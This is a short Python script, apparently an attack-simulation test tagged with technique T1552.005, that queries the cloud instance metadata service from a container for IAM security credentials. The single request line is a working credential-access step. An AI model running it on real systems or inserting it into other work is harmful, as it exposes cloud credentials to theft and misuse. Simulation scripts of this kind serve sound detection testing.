#!/usr/bin/env python3
# title: A container asks the metadata service for credentials
# technique: T1552.005
# needs: python3
# in: container

import urllib.request
urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=5).read()
